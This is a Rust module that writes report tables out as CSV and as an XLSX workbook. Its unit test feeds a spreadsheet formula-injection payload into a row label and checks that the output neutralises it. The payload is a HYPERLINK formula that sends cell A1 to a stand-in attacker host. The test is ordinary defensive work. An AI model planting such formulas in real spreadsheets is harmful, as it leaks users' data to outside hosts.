//! Downloads of a report: CSV per table, one XLSX workbook with a sheet per
//! table. Suppressed cells are empty.

use crate::report::{Report, Table};
use kallos_domain::spreadsheet::text;

/// One table as CSV: `key,label,<columns…>`.
pub fn table_csv(table: &Table) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    // Keys, labels and column names are text, neutralised against formulas
    // (`kallos_domain::spreadsheet`); counts are numbers.
    let mut header = vec!["key".to_owned(), "label".to_owned()];
    header.extend(table.columns.iter().map(|c| text(c).into_owned()));
    let _ = writer.write_record(&header);
    for row in &table.rows {
        let mut record = vec![text(&row.key).into_owned(), text(&row.label).into_owned()];
        record.extend(
            row.values
                .iter()
                .map(|v| v.map(|v| v.to_string()).unwrap_or_default()),
        );
        let _ = writer.write_record(&record);
    }
    writer
        .into_inner()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .unwrap_or_default()
}

/// Every table as CSV, one after the other, each headed by a `# table` line
/// (for `kallos report --format csv` to one file).
pub fn report_csv(report: &Report) -> String {
    report
        .tables
        .iter()
        .map(|t| format!("# {}\n{}", t.id, table_csv(t)))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The workbook: a sheet per table, named after it.
pub fn report_xlsx(report: &Report) -> Result<Vec<u8>, String> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    for table in &report.tables {
        let sheet = workbook.add_worksheet();
        let name: String = table.id.chars().take(31).collect();
        sheet.set_name(&name).map_err(|e| e.to_string())?;
        sheet
            .write_string_with_format(0, 0, "key", &bold)
            .map_err(|e| e.to_string())?;
        sheet
            .write_string_with_format(0, 1, "label", &bold)
            .map_err(|e| e.to_string())?;
        for (c, column) in table.columns.iter().enumerate() {
            let col = u16::try_from(c + 2).map_err(|e| e.to_string())?;
            sheet
                .write_string_with_format(0, col, column, &bold)
                .map_err(|e| e.to_string())?;
        }
        for (r, row) in table.rows.iter().enumerate() {
            let line = u32::try_from(r + 1).map_err(|e| e.to_string())?;
            sheet
                .write_string(line, 0, &row.key)
                .map_err(|e| e.to_string())?;
            sheet
                .write_string(line, 1, &row.label)
                .map_err(|e| e.to_string())?;
            for (c, value) in row.values.iter().enumerate() {
                let col = u16::try_from(c + 2).map_err(|e| e.to_string())?;
                if let Some(v) = value {
                    sheet
                        .write_number(line, col, *v as f64)
                        .map_err(|e| e.to_string())?;
                }
            }
        }
    }
    workbook.save_to_buffer().map_err(|e| e.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::TableRow;

    /// Labels and keys are text a spreadsheet must not run; counts, negative
    /// or not, stay numbers.
    #[test]
    fn text_cells_are_never_formulas_and_numbers_stay_numbers() {
        let table = Table {
            id: "procedures".to_owned(),
            columns: vec!["procedures".to_owned(), "@change".to_owned()],
            rows: vec![TableRow {
                key: "procedure:=1+1".to_owned(),
                label: "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")".to_owned(),
                level: 1,
                values: vec![Some(12), Some(-3)],
            }],
            sums: Vec::new(),
        };
        assert_eq!(
            table_csv(&table),
            "key,label,procedures,'@change\n\
             procedure:=1+1,\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\",12,-3\n"
        );
    }
}
